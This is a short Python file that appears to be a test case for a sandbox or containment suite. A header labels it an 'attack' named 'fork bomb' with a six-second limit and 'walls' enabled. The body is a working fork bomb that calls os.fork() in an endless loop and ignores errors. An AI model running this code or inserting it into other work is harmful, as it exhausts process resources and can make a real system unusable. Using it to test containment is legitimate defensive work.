# /// attack
# name = "fork bomb"
# threat = "forks"
# tries = "Forks without end."
# seconds = 6
# walls = true
# ///

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
